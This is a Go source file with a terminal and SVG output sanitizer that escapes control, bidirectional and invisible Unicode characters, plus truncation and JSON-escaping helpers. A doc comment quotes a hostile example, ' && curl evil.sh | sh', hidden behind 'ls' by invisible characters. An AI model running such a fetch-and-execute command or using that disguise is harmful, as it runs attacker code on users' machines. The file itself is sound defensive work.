package main

import (
	"strings"
	"unicode/utf8"

	"github.com/uagentkit/stream/internal/safetext"
)

// sanitize makes a string from a stream safe to show to a person, on a
// terminal or in an SVG: C0 and C1 controls (ESC among them), DEL, the
// bidirectional controls that can disguise text, and the invisible
// (default-ignorable) code points, such as zero-width characters, the soft
// hyphen and the Unicode tag characters, that can make "ls" hide
// " && curl evil.sh | sh", become visible escapes like \x1b or \u200b;
// invalid UTF-8 becomes U+FFFD. With keepNewlines, "\n" (and U+2028/U+2029)
// stay line breaks; otherwise they become the two characters \n. Tabs
// become spaces. It is the one sanitizer of the command: every string from
// a stream goes through it before any human-readable output.
func sanitize(s string, keepNewlines bool) string {
	clean := true
	for _, r := range s {
		if r == utf8.RuneError || r < 0x20 || safetext.Unsafe(r) || r == '\u2028' || r == '\u2029' {
			clean = false
			break
		}
	}
	if clean {
		return s
	}
	var b strings.Builder
	b.Grow(len(s) + 8)
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		i += size
		switch {
		case r == utf8.RuneError && size == 1:
			b.WriteRune(utf8.RuneError)
		case r == '\n' || r == '\u2028' || r == '\u2029':
			if keepNewlines {
				b.WriteByte('\n')
			} else {
				b.WriteString(`\n`)
			}
		case r == '\t':
			b.WriteString("    ")
		case r < 0x20 || r == 0x7f:
			b.WriteString(`\x`)
			b.WriteByte(hexDigit[r>>4])
			b.WriteByte(hexDigit[r&0xf])
		case safetext.Unsafe(r):
			safetext.WriteU(&b, r)
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

const hexDigit = "0123456789abcdef"

// oneLine sanitizes s and keeps it on one line, cut to max runes.
func oneLine(s string, max int) string {
	s = sanitize(s, false)
	if utf8.RuneCountInString(s) <= max {
		return s
	}
	n := 0
	for i := range s {
		if n == max-1 {
			return s[:i] + "…"
		}
		n++
	}
	return s
}

// jsonOut is a writer of JSON text that goes through safetext.EscapeJSON.
type jsonOut struct {
	w interface{ Write([]byte) (int, error) }
}

func (j jsonOut) Write(p []byte) (int, error) {
	if _, err := j.w.Write(safetext.EscapeJSON(p)); err != nil {
		return 0, err
	}
	return len(p), nil
}
